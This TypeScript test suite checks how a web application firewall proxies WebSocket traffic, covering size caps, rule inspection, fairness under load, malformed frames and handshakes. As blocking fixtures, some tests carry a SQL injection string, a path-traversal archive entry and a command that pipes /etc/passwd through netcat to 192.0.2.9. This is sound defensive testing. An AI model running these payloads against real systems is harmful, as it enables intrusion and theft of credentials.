import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { connect } from 'node:net';
import { create } from '@bufbuild/protobuf';
import { edgeV1 } from '@palisade/contracts';
import { type ClientOptions, WebSocket, WebSocketServer } from 'ws';
import { compileManagedRules } from '../../node/rules/managed-rule-set.ts';
import type { EdgeWorkerOptions } from '../../node/worker/edge-worker-options.ts';
import { EdgeAction } from '../../request/verdict.ts';
import { countedRules } from '../../test-support/counted-rules.ts';
import { type EdgeHarness, startEdge } from '../../test-support/edge-harness.ts';
import { fakeRuleSet } from '../../test-support/fake-rule-set.ts';
import { eventually, sendRaw } from '../../test-support/raw-client.ts';
import { zipOf } from '../../test-support/zip.ts';

interface Heard {
  messages: string[];
  protocols: string[];
  closeCodes: number[];
  sockets: Set<WebSocket>;
}

let server: Server;
let heard: Heard;
let edge: EdgeHarness;
const clients: WebSocket[] = [];

beforeAll(async () => {
  server = createServer();
  const sockets = new WebSocketServer({ server, perMessageDeflate: true });
  sockets.on('connection', (socket, request) => {
    heard.sockets.add(socket);
    heard.protocols.push(request.headers['sec-websocket-extensions'] ?? '');
    socket.on('message', (data, isBinary) => {
      heard.messages.push(isBinary ? `binary ${(data as Buffer).length}` : String(data));
      socket.send(isBinary ? data : `echo ${data}`);
    });
    socket.on('close', (code) => heard.closeCodes.push(code));
    socket.on('error', () => undefined);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
});

afterAll(() => {
  server.closeAllConnections();
  server.close();
});

beforeEach(() => {
  heard = { messages: [], protocols: [], closeCodes: [], sockets: new Set() };
});

afterEach(async () => {
  for (const client of clients.splice(0)) client.terminate();
  await edge?.stop();
});

async function start(
  change: (config: edgeV1.SiteConfig) => void = () => undefined,
  options: Partial<EdgeWorkerOptions> = {},
) {
  edge = await startEdge((server.address() as AddressInfo).port, options, (config) => {
    config.delivery!.websocket = true;
    change(config);
  });
}

const limits = (maxMessageBytes: number, inspectText: boolean) => (config: edgeV1.SiteConfig) => {
  config.delivery!.websocketLimits = {
    $typeName: 'palisade.edge.v1.WebSocketLimits',
    maxMessageBytes,
    inspectText,
  };
};

/** A client whose connection is open, and what it hears. */
async function open(options: ClientOptions = {}) {
  const client = new WebSocket(`ws://127.0.0.1:${edge.port}/chat`, {
    headers: { Host: 'shop.example' },
    ...options,
  });
  clients.push(client);
  const answers: string[] = [];
  let closeCode = 0;
  client.on('message', (data) => answers.push((data as Buffer).toString('latin1')));
  client.on('close', (code) => {
    closeCode = code;
  });
  client.on('error', () => undefined);
  await once(client, 'open');
  return { client, answers, closed: () => eventually(() => closeCode !== 0 && closeCode) };
}

describe('messages', () => {
  it('pass both ways, compressed or not, whole or in pieces', async () => {
    await start();
    for (const perMessageDeflate of [false, true]) {
      const { client, answers } = await open({ perMessageDeflate });
      client.send('hello '.repeat(1_000));
      client.send('one ', { fin: false });
      client.ping();
      client.send('two', { fin: true });
      client.send(Buffer.alloc(70_000, 1));
      await eventually(() => answers.length === 3);
      expect(answers[0]).toBe(`echo ${'hello '.repeat(1_000)}`);
      expect(answers[1]).toBe('echo one two');
      expect(answers[2]).toHaveLength(70_000);
    }
    expect(heard.protocols[1]).toContain('permessage-deflate');
  });

  it('beyond the cap end the connection with 1009 on both sides, and do not arrive', async () => {
    await start(limits(10_000, false));
    const { client, closed } = await open({ perMessageDeflate: false });
    client.send('x'.repeat(10_000));
    await eventually(() => heard.messages.length === 1);
    client.send('y'.repeat(6_000), { fin: false });
    client.send('y'.repeat(6_000), { fin: true });
    expect(await closed()).toBe(1009);
    await eventually(() => heard.closeCodes.length === 1);
    expect(heard.closeCodes).toEqual([1009]);
    expect(heard.messages).toHaveLength(1);
    await eventually(() => edge.records.length === 1);
    expect(edge.records[0]).toMatchObject({
      status: 101,
      action: EdgeAction.BLOCK,
      reason: 'websocket:1009',
    });
  });

  it('of many megabytes each way pass at the pace of whoever reads', async () => {
    await start(limits(64 * 1024 * 1024, false));
    const { client, answers } = await open({ perMessageDeflate: false });
    client.send(Buffer.alloc(20_000_000, 7));
    await eventually(() => answers.length === 1);
    expect(answers[0]).toHaveLength(20_000_000);
  });
});

describe('inspected messages', () => {
  it('that the rules refuse do not arrive; the connection ends with 1008 and a record of the rule', async () => {
    await start(limits(0, true));
    const { client, answers, closed } = await open();
    client.send('all is well');
    const bytes = Buffer.from([0x92, 1, 0xa6, ...Buffer.from('attack')]);
    client.send(bytes);
    await eventually(() => answers.length === 2);
    client.send('an att', { fin: false });
    client.send('ack', { fin: true });
    expect(await closed()).toBe(1008);
    expect(heard.messages).toEqual(['all is well', 'binary 9']);
    // Compressed messages could not be read, so compression is not offered to the origin.
    expect(heard.protocols).toEqual(['']);
    await eventually(() => edge.records.length === 1);
    const [record] = edge.records;
    expect(record).toMatchObject({ action: EdgeAction.BLOCK, reason: 'rule' });
    expect(record!.transaction!.audit().interruption?.ruleId).toBe(1001);
  });

  it('are judged where binary ones are text, whole or in pieces; other bytes pass as they came', async () => {
    await start(limits(0, true));
    const { client, answers, closed } = await open();
    client.send(Buffer.from('all is well'));
    client.send(Buffer.from(''));
    // Bytes at first, and among a short text.
    client.send(Buffer.concat([Buffer.alloc(9, 0x81), Buffer.from('attack ')]));
    client.send(Buffer.from([0x81, 0xa1]), { fin: false });
    client.send(Buffer.from('attack'), { fin: true });
    client.send(Buffer.alloc(0), { binary: true, fin: false });
    client.send(Buffer.from('so far'), { fin: true });
    await eventually(() => answers.length === 5);
    expect(heard.messages).toEqual(['binary 11', 'binary 0', 'binary 16', 'binary 8', 'binary 6']);
    client.send(Buffer.from('an att'), { fin: false });
    client.send(Buffer.from('ack'), { fin: true });
    expect(await closed()).toBe(1008);
    expect(heard.messages).toHaveLength(5);
    for (const attack of [
      Buffer.concat([Buffer.from('attack '), Buffer.from([0xff])]),
      Buffer.concat([Buffer.from('attack '), Buffer.alloc(9, 0xff)]),
      Buffer.from('{"q":"attack"}', 'utf16le').swap16(),
    ]) {
      const other = await open();
      other.client.send(attack);
      expect(await other.closed()).toBe(1008);
    }
    expect(heard.messages).toHaveLength(5);
  });

  it('keep their order while the rules take many slices, and pass only when these are done', async () => {
    await start(limits(0, true), { ruleSet: fakeRuleSet({ slices: [5, 5, 1, 1] }) });
    const { client, answers, closed } = await open();
    const words = Array.from({ length: 20 }, (_, index) => `message ${index}`);
    for (const word of words) client.send(word);
    client.send(Buffer.alloc(100_000, 1));
    await eventually(() => answers.length === 21);
    expect(heard.messages).toEqual([...words, 'binary 100000']);
    client.send('and');
    client.send('an attack');
    client.send('after it');
    expect(await closed()).toBe(1008);
    await eventually(() => heard.closeCodes.length === 1);
    expect(heard.messages.slice(21)).toEqual(['and']);
  });

  it('are judged by the managed rules as what they hold, JSON or not', async () => {
    await start(limits(0, true), { ruleSet: compileManagedRules() });
    const { client, answers, closed } = await open();
    client.send("hello, how are you? It's 5 o'clock & raining");
    client.send(JSON.stringify({ type: 'chat', text: 'see you at the select committee on Monday', at: 5 }));
    await eventually(() => answers.length === 2);
    client.send(JSON.stringify({ type: 'find', text: "1' UNION SELECT password FROM users -- " }));
    expect(await closed()).toBe(1008);
    const plain = await open();
    plain.client.send("1' UNION SELECT password FROM users -- ");
    expect(await plain.closed()).toBe(1008);
    expect(heard.messages).toHaveLength(2);
  });

  it('of archives pass, but not what their members’ names hide', async () => {
    await start(limits(0, true), { ruleSet: compileManagedRules() });
    const { client, answers, closed } = await open();
    const names = ['META-INF/', 'META-INF/MANIFEST.MF', 'org/example/Main$1.class'];
    client.send(zipOf(...names));
    await eventually(() => answers.length === 1);
    client.send(zipOf(...names, "1' UNION SELECT password FROM users -- "));
    expect(await closed()).toBe(1008);
    const other = await open();
    other.client.send(zipOf('../../../../etc/passwd'));
    expect(await other.closed()).toBe(1008);
    expect(heard.messages).toHaveLength(1);
  });

  it('are judged by documents in them, as MQTT and Socket.IO 2 write them', async () => {
    await start(limits(0, true), { ruleSet: compileManagedRules() });
    const command = [...';cat /etc/passwd|nc 192.0.2.9 4444']
      .map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`)
      .join('');
    const published = (text: string) =>
      Buffer.from(`2${String.fromCharCode((7 + text.length) % 128)}\0\x03a/b\0\x01${text}`, 'latin1');
    const { client, answers, closed } = await open();
    client.send(published('{"name":"Ann & Bob"}'));
    client.send(Buffer.from('\x04{"name":"Ann"}'));
    await eventually(() => answers.length === 2);
    client.send(published(`{"name":"${command}"}`));
    expect(await closed()).toBe(1008);
    const other = await open();
    other.client.send(Buffer.from(`\x04{"name":"${command}"}`));
    expect(await other.closed()).toBe(1008);
    expect(heard.messages).toHaveLength(2);
  });

  it('pass in log-only mode, with a remark', async () => {
    await start((config) => {
      limits(0, true)(config);
      config.policy!.mode = 2;
    });
    const { client, answers } = await open();
    client.send('attack');
    await eventually(() => answers.length === 1);
    client.close();
    await eventually(() => edge.records.length === 1);
    expect(edge.records[0]).toMatchObject({ action: EdgeAction.LOG_ONLY, reason: 'rule' });
  });

  it('pass where a rule of the owner skips the managed rules', async () => {
    await start((config) => {
      limits(0, true)(config);
      config.policy!.customRules = [
        create(edgeV1.CustomRuleSchema, {
          id: 'chat',
          name: 'Chats say what they like',
          action: edgeV1.CustomRuleAction.SKIP,
          skips: [edgeV1.SkippedCheck.MANAGED_RULES],
          conditions: [
            {
              field: edgeV1.ConditionField.HEADER,
              name: 'Upgrade',
              operator: edgeV1.ConditionOperator.EQUALS,
              values: ['websocket'],
            },
          ],
        }),
      ];
    });
    const { client, answers } = await open();
    client.send('an attack');
    await eventually(() => answers.length === 1);
    expect(heard.messages).toEqual(['an attack']);
  });

  it('that are no text end the connection with 1007', async () => {
    await start(limits(0, true));
    const { client, closed } = await open();
    // Two bytes that are no UTF-8, sent as text.
    (client as unknown as { _socket: Socket })._socket.write(
      Buffer.from([0x81, 0x82, 0, 0, 0, 0, 0xc3, 0x28]),
    );
    expect(await closed()).toBe(1007);
    expect(heard.messages).toEqual([]);
  });

  it('pass or not as the owner wants when the rules fail', async () => {
    await start(limits(0, true));
    const { client, answers } = await open();
    client.send('crash');
    await eventually(() => answers.length === 1);
    edge.configure((config) => {
      config.policy!.onEngineFailure = 2;
    });
    const strict = await open();
    strict.client.send('crash');
    expect(await strict.closed()).toBe(1011);
  });
});

describe('very many messages in one read', () => {
  /** Text messages of one byte, as a client writes them. */
  const tiny = (count: number) =>
    Buffer.concat(Array.from({ length: count }, () => Buffer.from([0x81, 0x81, 0, 0, 0, 0, 0x61])));
  const rawOf = (client: WebSocket) => (client as unknown as { _socket: Socket })._socket;

  it.each([
    ['short ones', 0, 20],
    ['ones that cost the rules more', 90_000, 2],
  ])('are judged in many turns: %s', async (_what, steps, most) => {
    const { begun, ruleSet } = countedRules(fakeRuleSet(), steps);
    await start(limits(0, true), { ruleSet });
    const { client } = await open();
    rawOf(client).write(tiny(3_000));
    await eventually(() => heard.messages.length === 3_000);
    expect(begun.all).toBeGreaterThan(3_000);
    // What began at once in a turn, and one who waited in the line for it.
    expect(begun.mostInOneTurn).toBeLessThanOrEqual(2 * most);
  });

  it('of many connections share one turn’s steps', async () => {
    const { begun, ruleSet } = countedRules(fakeRuleSet(), 0);
    await start(limits(0, true), { ruleSet });
    const opened = await Promise.all(Array.from({ length: 10 }, () => open()));
    for (const { client } of opened) rawOf(client).write(tiny(300));
    await eventually(() => heard.messages.length === 3_000);
    expect(begun.mostInOneTurn).toBeLessThanOrEqual(40);
  });

  it('of very many connections at once wait without the room of those that have sent much', async () => {
    const { ruleSet } = countedRules(fakeRuleSet(), 100_000);
    await start(limits(0, true), { ruleSet });
    const opened = await Promise.all(Array.from({ length: 50 }, () => open()));
    let mostHeld = 0;
    const { webSocketMessages } = edge.worker.edge.pools;
    const watch = setInterval(() => {
      mostHeld = Math.max(mostHeld, webSocketMessages.state.used);
    });
    for (const { client } of opened) rawOf(client).write(tiny(3));
    await eventually(() => heard.messages.length === 150);
    clearInterval(watch);
    expect(mostHeld).toBeLessThan(50 * 1_024);
    expect(webSocketMessages.state.used).toBe(0);
  });

  it('of one client keep another’s waiting for a turn or two', async () => {
    const { ruleSet } = countedRules(fakeRuleSet(), 40_000);
    await start(limits(0, true), { ruleSet });
    const hoarder = await open();
    const other = await open({ localAddress: '127.0.0.2' });
    rawOf(hoarder.client).write(tiny(8_000));
    await eventually(() => heard.messages.length > 0);
    other.client.send('me too');
    await eventually(() => other.answers.length === 1);
    expect(heard.messages.length).toBeLessThan(4_000);
    await eventually(() => heard.messages.length === 8_001);
  });

  it('that nobody judges pass in several turns, in their order, with all that lies between them', async () => {
    await start();
    const { client } = await open({ perMessageDeflate: false });
    const ping = Buffer.from([0x89, 0x80, 0, 0, 0, 0]);
    const begun = Buffer.from([0x01, 0x81, 0, 0, 0, 0, 0x61]);
    const empty = Buffer.from([0x00, 0x80, 0, 0, 0, 0]);
    const last = Buffer.from([0x80, 0x81, 0, 0, 0, 0, 0x7a]);
    // The origin of this test ends a connection that brings some dozens of pings at once.
    const pieces = [begun, ...Array<Buffer>(4_000).fill(empty), ...Array<Buffer>(5).fill(ping), last];
    rawOf(client).write(Buffer.concat([...pieces, tiny(2), ...pieces]));
    await eventually(() => heard.messages.length === 4);
    expect(heard.messages).toEqual(['az', 'a', 'a', 'az']);
  });
});

describe('frames that no client sends', () => {
  const mask = [0, 0, 0, 0];
  it.each([
    ['unmasked', [0x81, 0x01, 0x41]],
    ['a reserved bit', [0xc1, 0x81, ...mask, 0x41]],
    ['an unknown opcode', [0x83, 0x81, ...mask, 0x41]],
    ['a continuation of nothing', [0x80, 0x81, ...mask, 0x41]],
    ['a message within a message', [0x01, 0x81, ...mask, 0x41, 0x81, 0x81, ...mask, 0x41]],
    ['a ping in pieces', [0x09, 0x81, ...mask, 0x41]],
    ['a ping that is too long', [0x89, 0xfe, 0, 126, ...mask]],
    ['a length written longer than need be', [0x81, 0xfe, 0, 5, ...mask]],
    ['a length beyond everything', [0x82, 0xff, 0x80, 0, 0, 0, 0, 0, 0, 0, ...mask]],
  ])('%s: 1002', async (_name, bytes) => {
    await start();
    const { client, closed } = await open({ perMessageDeflate: false });
    (client as unknown as { _socket: Socket })._socket.write(Buffer.from(bytes));
    expect(await closed()).toBe(1002);
    expect(heard.messages).toEqual([]);
  });
});

describe('the handshake', () => {
  const handshake = (fields: string) =>
    sendRaw(
      edge.port,
      `GET /chat HTTP/1.1\r\nHost: shop.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n${fields}\r\n`,
    );
  const KEY = 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';

  it('has to be a whole one', async () => {
    await start();
    expect((await handshake(`${KEY}Sec-WebSocket-Version: 13\r\n`)).statuses).toEqual([101]);
    for (const fields of [
      KEY,
      'Sec-WebSocket-Version: 13\r\n',
      `${KEY}Sec-WebSocket-Version: 8\r\n`,
      `${KEY}${KEY}Sec-WebSocket-Version: 13\r\n`,
    ]) {
      expect((await handshake(fields)).status).toBe(400);
    }
    expect(heard.protocols).toHaveLength(1);
  });

  it('is not over with a 101 that answers another key: nothing is joined', async () => {
    const liar = createServer().on('upgrade', (_request, socket) => {
      socket.end(
        'HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Accept: bm90aGluZyBvZiB0aGUga2luZCE=\r\n\r\n',
      );
    });
    liar.listen(0, '127.0.0.1');
    await once(liar, 'listening');
    await start((config) => {
      config.origin!.port = (liar.address() as AddressInfo).port;
    });
    const answer = await handshake(`${KEY}Sec-WebSocket-Version: 13\r\n`);
    expect(answer.status).toBe(502);
    liar.closeAllConnections();
    liar.close();
  });

  it('carries the frame that came right behind it', async () => {
    await start();
    const socket = connect(edge.port, '127.0.0.1');
    let text = '';
    socket.on('data', (chunk) => {
      text += chunk.toString('latin1');
    });
    const head = `GET /chat HTTP/1.1\r\nHost: shop.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n${KEY}Sec-WebSocket-Version: 13\r\n\r\n`;
    socket.write(Buffer.concat([Buffer.from(head), Buffer.from([0x81, 0x82, 0, 0, 0, 0, 0x68, 0x69])]));
    await eventually(() => text.includes('echo hi'));
    expect(heard.messages).toEqual(['hi']);
    socket.destroy();
  });
});
